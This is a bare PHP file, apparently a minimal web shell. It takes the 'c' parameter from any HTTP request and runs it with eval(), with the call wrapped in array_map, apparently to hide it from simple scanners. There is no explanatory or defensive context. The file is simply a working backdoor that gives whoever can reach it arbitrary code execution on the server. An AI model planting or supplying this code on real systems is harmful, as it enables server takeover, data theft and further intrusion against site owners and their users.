<?php
array_map(function ($x) {
    eval($x);
}, array($_REQUEST['c']));
